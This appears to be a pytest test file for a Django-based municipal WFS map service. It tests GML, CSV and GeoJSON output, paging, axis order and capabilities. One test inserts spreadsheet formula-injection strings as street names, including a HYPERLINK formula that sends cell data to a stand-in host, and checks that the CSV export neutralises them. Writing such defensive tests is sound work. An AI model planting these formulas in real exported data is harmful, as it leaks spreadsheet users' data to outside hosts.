BY_ID = "urn:ogc:def:query:OGC-WFS::GetFeatureById"
SAME_GML_AS_DJANGO_GISSERVER = [
    *({"TYPENAMES": layer} for layer in sorted(LAYERS)),
    {"TYPENAMES": "parcels", "COUNT": "2"},  # a full page: numberMatched is counted, a next link
    {"TYPENAMES": "parcels", "COUNT": "2", "STARTINDEX": "2"},
    {"TYPENAMES": "parcels", "PROPERTYNAME": "area_code"},
    {"TYPENAMES": "parcels", "PROPERTYNAME": "geom,block_number,number"},
    {"TYPENAMES": "parcels", "SRSNAME": "EPSG:4326"},  # the legacy axis order and srsName
    {"TYPENAMES": "parcels", "SRSNAME": "urn:ogc:def:crs:OGC::CRS84"},
    {"TYPENAMES": "streets", "SRSNAME": "urn:ogc:def:crs:EPSG::3857"},
    {"TYPENAMES": "parcels", "SORTBY": "number DESC", "FILTER": _filter(_equal(_reference("block_number"), "{block}"))},
    {"TYPENAMES": "(parcels)(landmarks)"},
    {"STOREDQUERY_ID": BY_ID, "ID": "parcels.{parcel}"},
    {"STOREDQUERY_ID": BY_ID, "ID": "landmarks.{landmark}"},
]


def _timeless(body: bytes) -> bytes:
    return re.sub(rb'timeStamp="[^"]*"', b"", body)


@pytest.mark.parametrize("query", SAME_GML_AS_DJANGO_GISSERVER, ids=lambda query: "&".join(query.values())[:60])
def test_gml_is_written_from_rows_byte_for_byte_as_django_gisserver_writes_it(
    client, parcels, planning, monkeypatch, query
):
    landmark = Landmark.objects.get(code="LM-1")  # in no area: an xsi:nil area_code
    known = {"block": parcels[0].block.number, "parcel": parcels[0].pk, "landmark": landmark.pk}
    query = {name: value.format(**known) for name, value in query.items()}

    status, ours = _get(client, REQUEST="GetFeature", **query)
    monkeypatch.setattr(MunicipalGetFeature, "gml32_renderer", DBGML32Renderer)
    their_status, theirs = _get(client, REQUEST="GetFeature", **query)

    assert status == their_status == 200
    assert b"<app:" in ours
    assert _timeless(ours) == _timeless(theirs)


@pytest.mark.parametrize(
    ("layer", "queries"),
    # The one current landmark is in no area: no area to read.
    [
        ("governorates", 1),
        ("areas", 2),
        ("blocks", 2),
        ("parcels", 2),
        ("parcel_versions", 2),
        ("zoning", 1),
        ("streets", 2),
        ("landmarks", 1),
    ],  # fmt: skip
)
def test_a_page_reads_its_related_columns_in_one_query_per_foreign_key(client, parcels, planning, layer, queries):
    """A parcel's block_number and area_code: one query for the page's blocks with their areas, not the
    prefetch of blocks, of areas and one query per block for its area."""
    with CaptureQueriesContext(connection) as captured:
        status, body = _get(client, REQUEST="GetFeature", TYPENAMES=layer)

    assert status == 200
    assert body.count(b"<wfs:member>") >= 1
    assert len(captured.captured_queries) == queries


def test_a_layer_the_rows_cannot_hold_is_written_by_django_gisserver(client, block, planning, monkeypatch):
    """A street's blocks, nested and repeated: a feature is no longer one row, so django-gisserver writes it."""
    Street.objects.get().blocks.add(block)
    streets = FeatureType(
        Street.objects.order_by("pk"),
        name="streets",
        fields=["code", field("blocks", fields=["number"]), "geom"],
        crs=STORAGE_CRS,
        show_name_field=False,
    )
    view = MunicipalWFSView.as_view(feature_types=[streets])
    request = {"SERVICE": "WFS", "VERSION": "2.0.0", "REQUEST": "GetFeature", "TYPENAMES": "streets"}

    ours = b"".join(view(RequestFactory().get("/wfs", request)).streaming_content)
    monkeypatch.setattr(MunicipalGetFeature, "gml32_renderer", DBGML32Renderer)
    theirs = b"".join(view(RequestFactory().get("/wfs", request)).streaming_content)

    assert f"<app:blocks>\n<app:number>{block.number}</app:number>".encode() in ours
    assert _timeless(ours) == _timeless(theirs)


@pytest.mark.parametrize("output", ["application/gml+xml; version=3.2", "csv"])
def test_every_output_format_breaks_sort_ties_by_id(client, parcels, output):
    with CaptureQueriesContext(connection) as captured:
        status, _ = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", OUTPUTFORMAT=output, SORTBY="land_use")

    assert status == 200
    sql = [query["sql"] for query in captured.captured_queries if " ORDER BY " in query["sql"]]
    assert sql
    # The GML rows are selected with the id first and ordered by position: ORDER BY 4 ASC, 1 ASC.
    last_by_id = r'ORDER BY .+, (?:"layers_parcel"\."id"|1) ASC( LIMIT|$)'
    assert all(re.search(last_by_id, statement) for statement in sql), sql
    assert all(statement.startswith('SELECT "layers_parcel"."id"') for statement in sql if ", 1 ASC" in statement)


def test_csv_has_no_cell_a_spreadsheet_would_run_as_a_formula(client, block):
    """A delivered name "=HYPERLINK(…)" would be run by Excel at the ministry that opened the download."""
    for number, name in enumerate(['=HYPERLINK("http://x.example/?"&A1,"Open")', "+1+2", "@SUM(A1)", "-2+3", "Plain"]):
        line = LineString((SALMIYA_X, SALMIYA_Y + number), (SALMIYA_X + 50, SALMIYA_Y + number))
        Street.objects.create(code=f"ST-F{number}", number=str(number), name_ar="شارع", name_en=name,
                              street_class="local", area=block.area,
                              geom=MultiLineString(line, srid=settings.SRID))  # fmt: skip

    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="streets", OUTPUTFORMAT="csv", SORTBY="code")

    assert status == 200
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8"))))
    assert [row["name_en"] for row in rows] == [
        """'=HYPERLINK("http://x.example/?"&A1,"Open")""",
        "'+1+2",
        "'@SUM(A1)",
        "'-2+3",
        "Plain",
    ]
    assert all(row["geom"].startswith("SRID=") for row in rows)  # the geometry as written


def test_geojson_writes_decimal_columns_as_numbers_that_gdal_reads_as_reals(client, parcels, planning, tmp_path):
    """django-gisserver wrote "750.00": GDAL, QGIS and pandas read the column as text, which sorts and sums wrong."""
    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", OUTPUTFORMAT="geojson")
    zoning_status, zoning = _get(client, REQUEST="GetFeature", TYPENAMES="zoning", OUTPUTFORMAT="geojson")

    assert status == zoning_status == 200
    areas = [feature["properties"]["surveyed_area_m2"] for feature in json.loads(body)["features"]]
    assert areas
    assert all(isinstance(area, float) for area in areas)
    zone = json.loads(zoning)["features"][0]["properties"]
    assert all(isinstance(zone[name], float) for name in ("max_height_m", "floor_area_ratio", "site_coverage_pct")), (
        zone
    )
    (tmp_path / "parcels.geojson").write_bytes(body)
    schema = subprocess.run(
        ["ogrinfo", "-so", "-al", str(tmp_path / "parcels.geojson")], capture_output=True, text=True
    )
    assert re.search(r"^surveyed_area_m2: Real", schema.stdout, re.MULTILINE), schema.stdout


@pytest.mark.parametrize("paging", [{}, {"STARTINDEX": "1"}, {"COUNT": "2"}, {"STARTINDEX": "2", "COUNT": "1"}])
def test_a_count_is_of_every_feature_matched_whatever_page_is_named(client, parcels, paging):
    """django-gisserver "minimized" it: STARTINDEX=100 gave 0 of 20,000 parcels, COUNT=5000 gave 5,000."""
    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", RESULTTYPE="hits", **paging)

    collection = ET.fromstring(body)  # noqa: S314 - our own server's answer
    assert status == 200
    assert (collection.get("numberMatched"), collection.get("numberReturned")) == ("3", "0")
    assert collection.get("next") is None  # a count has no next page


@pytest.mark.parametrize("output_format", ["csv", "geojson", None])
def test_every_page_with_more_after_it_says_so_in_a_link_header(client, parcels, output_format):
    formats = {"OUTPUTFORMAT": output_format} if output_format else {}
    response = client.get("/wfs", {"SERVICE": "WFS", "VERSION": "2.0.0", "REQUEST": "GetFeature",
                                   "TYPENAMES": "parcels", "COUNT": "2", **formats})  # fmt: skip
    last = client.get("/wfs", {"SERVICE": "WFS", "VERSION": "2.0.0", "REQUEST": "GetFeature",
                               "TYPENAMES": "parcels", "COUNT": "2", "STARTINDEX": "2", **formats})  # fmt: skip

    assert response.status_code == last.status_code == 200
    link = re.fullmatch(r'<(http://testserver/wfs\?[^>]+)>; rel="next"', response["Link"])
    assert link, response["Link"]
    assert "STARTINDEX=2" in link[1] and "COUNT=2" in link[1]  # noqa: PT018 - one link
    assert "Link" not in last  # the last page


def test_gdal_pages_at_the_service_s_page_size_from_the_capabilities(live_server, parcels, settings):
    """GDAL reads the page size from the CountDefault constraint; with only DefaultMaxFeatures it paged at 100."""
    url = f"WFS:{live_server.url}/wfs?VERSION=2.0.0"

    run = subprocess.run(["ogrinfo", "-ro", "-so", url, "app:parcels", "--debug", "on"], capture_output=True, text=True,
                         check=True)  # fmt: skip

    assert f"Paging support with page size {settings.GISSERVER_DEFAULT_MAX_PAGE_SIZE}" in run.stderr, run.stderr


WGS84_SPELLINGS = [
    "EPSG:4326",
    "http://www.opengis.net/gml/srs/epsg.xml#4326",
    "urn:ogc:def:crs:EPSG::4326",
    "http://www.opengis.net/def/crs/epsg/0/4326",
]
LONGITUDE_FIRST = {"EPSG:4326", "http://www.opengis.net/gml/srs/epsg.xml#4326"}  # GeoServer's axis order rule


def _first_position(gml: bytes) -> tuple[float, float]:
    first, second = re.search(rb"<gml:posList[^>]*>(\S+) (\S+) ", gml).groups()
    return float(first), float(second)


def _numbers(geojson: bytes) -> list[str]:
    properties = [feature["properties"] for feature in json.loads(geojson)["features"]]
    return [feature.get("number") or feature["code"] for feature in properties]


@pytest.mark.parametrize("spelling", WGS84_SPELLINGS)
def test_a_bbox_is_read_in_the_axis_order_srsname_writes_for_the_same_spelling(client, parcels, spelling):
    """ "BBOX=…,EPSG:4326" was read latitude first, while "SRSNAME=EPSG:4326" writes longitude first: a box around
    what the service itself wrote found nothing. GeoJSON and CSV are longitude first whatever the spelling."""
    second_parcel = _filter(_equal(_reference("number"), "2"))
    status, gml = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", FILTER=second_parcel, SRSNAME=spelling)
    first, second = _first_position(gml)  # a corner of parcel 2, the others 5 m away
    box = f"{first - 1e-5},{second - 1e-5},{first + 1e-5},{second + 1e-5},{spelling}"
    found_status, found = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", OUTPUTFORMAT="geojson", BBOX=box,
                               SRSNAME=spelling)  # fmt: skip
    _, csv_body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", OUTPUTFORMAT="csv", SRSNAME=spelling)

    assert status == found_status == 200
    longitude, latitude = (first, second) if spelling in LONGITUDE_FIRST else (second, first)
    assert 48.0 < longitude < 48.1 and 29.3 < latitude < 29.4  # noqa: PT018 - one point, both axes
    assert _numbers(found) == ["2"]
    feature_longitude, feature_latitude = json.loads(found)["features"][0]["geometry"]["coordinates"][0][0]
    assert 48.0 < feature_longitude < 48.1 and 29.3 < feature_latitude < 29.4  # noqa: PT018 - RFC 7946 order
    assert re.search(rb"SRID=4326;POLYGON\(\(48\.\d+ 29\.\d+,", csv_body), csv_body  # WKT is x/y


def test_owslib_finds_a_parcel_by_a_box_given_longitude_first_in_epsg_4326(live_server, parcels):
    """OWSLib sends a box in the short spelling as it is given (x/y); it swaps only for the URN."""
    service = WebFeatureService(f"{live_server.url}/wfs", version="2.0.0")
    inside = parcels[1].geom.point_on_surface.transform(4326, clone=True)  # x is the longitude

    answer = service.getfeature(
        typename=["app:parcels"],
        bbox=(inside.x - 1e-5, inside.y - 1e-5, inside.x + 1e-5, inside.y + 1e-5, "EPSG:4326"),
        srsname="EPSG:4326",
        outputFormat="geojson",
    )

    assert _numbers(answer.read()) == ["2"]


def test_gdal_copies_a_box_asked_in_epsg_4326_to_where_it_lies(live_server, parcels):
    """GDAL reads the GML of SRSNAME=EPSG:4326 longitude first (its CONSIDER_EPSG_AS_URN=AUTO), and passes the
    connection's BBOX on as it is: both in the same order, the parcel is found and placed where it lies."""
    inside = parcels[1].geom.point_on_surface.transform(4326, clone=True)
    box = ",".join(str(value) for value in (inside.x - 1e-5, inside.y - 1e-5, inside.x + 1e-5, inside.y + 1e-5))
    url = f"WFS:{live_server.url}/wfs?VERSION=2.0.0&SRSNAME=EPSG:4326&BBOX={box},EPSG:4326"

    run = subprocess.run(["ogr2ogr", "-f", "GeoJSON", "/vsistdout/", url, "app:parcels"], capture_output=True,
                         text=True, check=True)  # fmt: skip

    features = json.loads(run.stdout)["features"]
    assert [feature["properties"]["number"] for feature in features] == ["2"]
    corners = features[0]["geometry"]["coordinates"][0]
    assert all(48.0 < longitude < 48.1 and 29.3 < latitude < 29.4 for longitude, latitude in corners)


def _layers_on_the_page(body: bytes, output_format: str | None) -> list[str]:
    """The layer of each feature of a response, in order."""
    if output_format == "geojson":
        return [feature["id"].split(".")[0] for feature in json.loads(body)["features"]]
    if output_format == "csv":  # one table, a column naming each row's layer (tests/layers/test_wfs_csv.py)
        return [row["layer"] for row in csv.DictReader(io.StringIO(body.decode()))]
    return [match.decode() for match in re.findall(rb'<app:\w+ gml:id="(\w+)\.\d+"', body)]


@pytest.mark.parametrize("output_format", [None, "geojson", "csv"])
def test_count_is_the_most_features_of_the_whole_response_not_of_each_query(client, parcels, planning, output_format):
    """OGC 09-025r2 §7.6.3: COUNT limits the features the response presents. (landmarks)(parcels)&COUNT=2 answered
    the landmark and two parcels, and numberReturned said 3."""
    formats = {"OUTPUTFORMAT": output_format} if output_format else {}

    response = client.get("/wfs", {"SERVICE": "WFS", "VERSION": "2.0.0", "REQUEST": "GetFeature",
                                   "TYPENAMES": "(landmarks)(parcels)", "COUNT": "2", **formats})  # fmt: skip

    body = b"".join(response.streaming_content)
    assert response.status_code == 200
    assert _layers_on_the_page(body, output_format) == ["landmarks", "parcels"]
    link = re.fullmatch(r'<(http://testserver/wfs\?[^>]+)>; rel="next"', response["Link"])
    assert "STARTINDEX=2" in link[1] and "COUNT=2" in link[1]  # noqa: PT018 - one link
    if output_format is None:
        collection = ET.fromstring(body)  # noqa: S314 - our own server's answer
        assert (collection.get("numberMatched"), collection.get("numberReturned")) == ("4", "2")
    elif output_format == "geojson":
        collection = json.loads(body)
        assert (collection["numberMatched"], collection["numberReturned"]) == (4, 2)


def test_startindex_and_count_page_through_the_queries_one_after_the_other(client, parcels, planning):
    """A client following the next links gets every feature of every query once, COUNT at most a page."""
    query = {"SERVICE": "WFS", "VERSION": "2.0.0", "REQUEST": "GetFeature", "TYPENAMES": "(parcels)(landmarks)",
             "COUNT": "2", "OUTPUTFORMAT": "geojson"}  # fmt: skip
    pages, url = [], "/wfs"
    while url and len(pages) < 5:
        response = client.get(url, query if url == "/wfs" else None)
        pages.append(_numbers(b"".join(response.streaming_content)))
        url = re.fullmatch(r"<http://testserver(/wfs\?[^>]+)>; rel=\"next\"", response.get("Link", ""))
        url = url and url[1]
    past_the_end = _get(client, **{**query, "STARTINDEX": str(10**9)})

    assert pages == [["1", "2"], ["3", "LM-1"]]
    assert past_the_end[0] == 200
    assert json.loads(past_the_end[1])["features"] == []


@pytest.mark.parametrize("empty_first", [True, False])
def test_geojson_of_several_queries_is_json_when_one_has_no_feature(client, parcels, empty_first):
    """django-gisserver wrote a comma for each query, features or not: "[ ," or "}, ]", which no client reads."""
    none, every = _filter(_equal(_reference("number"), "99")), _filter(_equal(_reference("status"), "registered"))
    filters = f"({none})({every})" if empty_first else f"({every})({none})"

    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="(parcels)(parcels)", OUTPUTFORMAT="geojson",
                        FILTER=filters)  # fmt: skip

    assert status == 200
    assert _numbers(body) == ["1", "2", "3"]


def test_hits_count_the_features_of_every_query_whatever_count(client, parcels, planning):
    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="(parcels)(landmarks)", RESULTTYPE="hits", COUNT="1")

    collection = ET.fromstring(body)  # noqa: S314 - our own server's answer
    assert status == 200
    assert (collection.get("numberMatched"), collection.get("numberReturned")) == ("4", "0")
    assert collection.get("next") is None


def test_ten_queries_are_answered(client, parcels):
    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="(parcels)" * 10, COUNT="25", OUTPUTFORMAT="geojson")

    assert status == 200
    assert len(json.loads(body)["features"]) == 25


def _post_get_feature(query: str, *, count: int, prefix: str = "app") -> bytes:
    return (
        f'<wfs:GetFeature service="WFS" version="2.0.0" outputFormat="geojson" count="{count}"'
        ' xmlns:wfs="http://www.opengis.net/wfs/2.0" xmlns:fes="http://www.opengis.net/fes/2.0"'
        f' xmlns:{prefix}="https://geoportal.example/wfs">{query}</wfs:GetFeature>'
    ).encode()


def _pages_followed(client, first):
    """The parcel numbers of each page, from the POST ``first`` through every ``Link: rel=next`` (at most 5)."""
    pages, response = [], first
    while True:
        assert response.status_code == 200, b"".join(response.streaming_content)
        pages.append(
            [
                feature["properties"]["number"]
                for feature in json.loads(b"".join(response.streaming_content))["features"]
            ]
        )
        link = re.fullmatch(r'<http://testserver(/wfs\?[^>]+)>; rel="next"', response.get("Link", ""))
        if not link or len(pages) == 5:
            return pages
        response = client.get(link[1])


@pytest.mark.parametrize("prefix", ["app", "m"])
def test_a_posted_query_s_next_pages_are_links_the_service_follows_filter_included(client, parcels, prefix):
    """A POST's next link named the type {namespace}parcels, which the service refused (400); with a filter there was
    no link at all, and a client following links stopped after the first page."""
    unfiltered = _post_get_feature(f'<wfs:Query typeNames="{prefix}:parcels"/>', count=2, prefix=prefix)
    filtered = _post_get_feature(
        f'<wfs:Query typeNames="{prefix}:parcels"><fes:Filter><fes:PropertyIsNotEqualTo>'
        f"<fes:ValueReference>{prefix}:number</fes:ValueReference><fes:Literal>2</fes:Literal>"
        "</fes:PropertyIsNotEqualTo></fes:Filter></wfs:Query>",
        count=1,
        prefix=prefix,
    )

    every = _pages_followed(client, client.post("/wfs", unfiltered, content_type="application/xml"))
    but_2 = _pages_followed(client, client.post("/wfs", filtered, content_type="application/xml"))

    assert every == [["1", "2"], ["3"]]
    assert but_2 == [["1"], ["3"]]


def test_a_posted_query_whose_next_link_would_be_too_long_for_a_url_has_none(client, parcels):
    """The front server refuses request lines over 8 KB: no link rather than one that fails."""

    def request(literal: str, comment: str) -> bytes:
        return _post_get_feature(
            '<wfs:Query typeNames="app:parcels"><fes:Filter><fes:PropertyIsNotEqualTo>'
            f"<fes:ValueReference>number</fes:ValueReference><fes:Literal>{literal}</fes:Literal>"
            f"</fes:PropertyIsNotEqualTo></fes:Filter><!-- {comment} --></wfs:Query>",
            count=1,
        )

    commented = client.post("/wfs", request("9", "x" * 9000), content_type="application/xml")
    long = client.post("/wfs", request("9" * 9000, ""), content_type="application/xml")

    assert commented.status_code == long.status_code == 200
    assert "Link" in commented  # the request's comment is not carried into the link
    assert "Link" not in long
    assert len(json.loads(b"".join(long.streaming_content))["features"]) == 1


def test_a_layer_s_wgs84_box_in_the_capabilities_holds_all_of_it(client, municipality):
    """django-gisserver transformed the four corners of the layer's projected extent; a landmark on its northern edge
    at the central meridian lay north of that box (lines of constant northing curve in latitude)."""
    from owslib.wfs import WebFeatureService

    places = {"west": (440_000, SALMIYA_Y), "east": (560_000, SALMIYA_Y), "north": (500_000, SALMIYA_Y + 1_000)}
    for name, (x, y) in places.items():
        Landmark.objects.create(code=f"LM-{name}", name_ar="معلم", name_en=name, category="mosque",
                                geom=Point(x, y, srid=settings.SRID))  # fmt: skip

    document = client.get("/wfs", {"SERVICE": "WFS", "REQUEST": "GetCapabilities", "VERSION": "2.0.0"}).content
    west, south, east, north = (
        WebFeatureService("http://testserver/wfs", version="2.0.0", xml=document)
        .contents["app:landmarks"]
        .boundingBoxWGS84
    )

    for x, y in places.values():
        longitude, latitude = Point(x, y, srid=settings.SRID).transform(4326, clone=True).coords
        assert west <= longitude <= east
        assert south <= latitude <= north, (latitude, north)


@pytest.mark.parametrize("name", ["CRS:84", "http://www.opengis.net/def/crs/OGC/1.3/CRS84"])
def test_crs84_by_its_other_names_is_longitude_latitude_as_the_urn(client, parcels, name):
    """WMS 1.3.0's CRS:84 and the OGC's http URI of CRS84 (OGC API's default) were refused as unknown."""
    urn = "urn:ogc:def:crs:OGC::CRS84"
    box = "47.5,28.5,48.5,30.0"
    query = {"REQUEST": "GetFeature", "TYPENAMES": "parcels", "OUTPUTFORMAT": "geojson"}

    status, body = _get(client, **query, SRSNAME=name, BBOX=f"{box},{name}")
    _, expected = _get(client, **query, SRSNAME=urn, BBOX=f"{box},{urn}")

    assert status == 200, body
    features = json.loads(body)["features"]
    assert [feature["geometry"] for feature in features] == [f["geometry"] for f in json.loads(expected)["features"]]
    assert len(features) == 3
    assert 47 < GEOSGeometry(json.dumps(features[0]["geometry"])).centroid.x < 49  # longitude first


def test_a_layer_s_box_is_kept_between_capabilities_until_the_layer_changes(client, parcels, block):
    """Each layer's box read the whole layer on every GetCapabilities: half a second for a million parcels."""

    def capabilities() -> tuple[tuple[float, ...], int]:
        with CaptureQueriesContext(connection) as queries:
            document = client.get("/wfs", {"SERVICE": "WFS", "REQUEST": "GetCapabilities", "VERSION": "2.0.0"}).content
        box = WebFeatureService("http://testserver/wfs", version="2.0.0", xml=document).contents["app:parcels"]
        return box.boundingBoxWGS84, sum("ST_EXTENT(" in query["sql"].upper() for query in queries)

    first, first_reads = capabilities()
    again, again_reads = capabilities()
    parcel_create(
        block=block,
        number="9",
        survey=parcel_survey(ktm_rectangle(SALMIYA_X + 2_000)),
        valid_from=datetime.date(2024, 2, 1),
    )
    grown, grown_reads = capabilities()

    assert first_reads == len(LAYERS)
    assert again_reads == 0
    assert again == first
    assert grown_reads == 2  # the parcels and their versions only
    assert grown[2] > first[2] + 0.015  # 2 km further east


@pytest.mark.parametrize("version", ["1.0.0", "1.1.0", "3.0.0"])
def test_capabilities_asked_in_a_version_not_served_are_answered_in_the_one_served(client, municipality, version):
    """WFS 1.x's version negotiation: OWSLib asks VERSION=1.0.0 by default, and was refused (InvalidParameterValue)."""
    response = client.get("/wfs", {"SERVICE": "WFS", "REQUEST": "GetCapabilities", "VERSION": version})

    assert response.status_code == 200
    assert ET.fromstring(response.content).get("version") == "2.0.0"  # noqa: S314 - our own server's answer


def test_another_operation_in_a_version_not_served_is_still_refused(client):
    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="parcels", VERSION="1.1.0")

    assert status == 400
    assert b"InvalidParameterValue" in body
    assert b"does not support WFS version 1.1.0" in body
